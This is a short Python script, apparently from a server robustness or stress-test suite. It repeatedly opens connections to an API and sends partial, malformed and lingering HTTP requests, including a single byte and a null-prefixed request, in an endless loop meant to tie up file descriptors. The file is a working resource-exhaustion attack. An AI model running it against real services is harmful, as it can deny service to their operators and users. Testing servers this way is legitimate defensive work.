"""Descriptors whose close blocks, on streams of the API: with a request's first bytes, and unread behind a bad one."""

from __future__ import annotations

import contextlib

from attacking import API, Lingering, again_and_again, connect

REQUEST = b"GET /api/v1/node HTTP/1.1\r\nHost: x\r\n\r\n"
lingering = Lingering()


def attack() -> None:
    """On a stream for each of the beginnings."""
    for data in (b"G", REQUEST, b"\0\r\n\r\n" + REQUEST):
        with contextlib.suppress(OSError), connect(API) as stream:  # it may take no descriptors
            lingering.give(stream, data, 3)
            lingering.give(stream, REQUEST, 3)


again_and_again(attack)
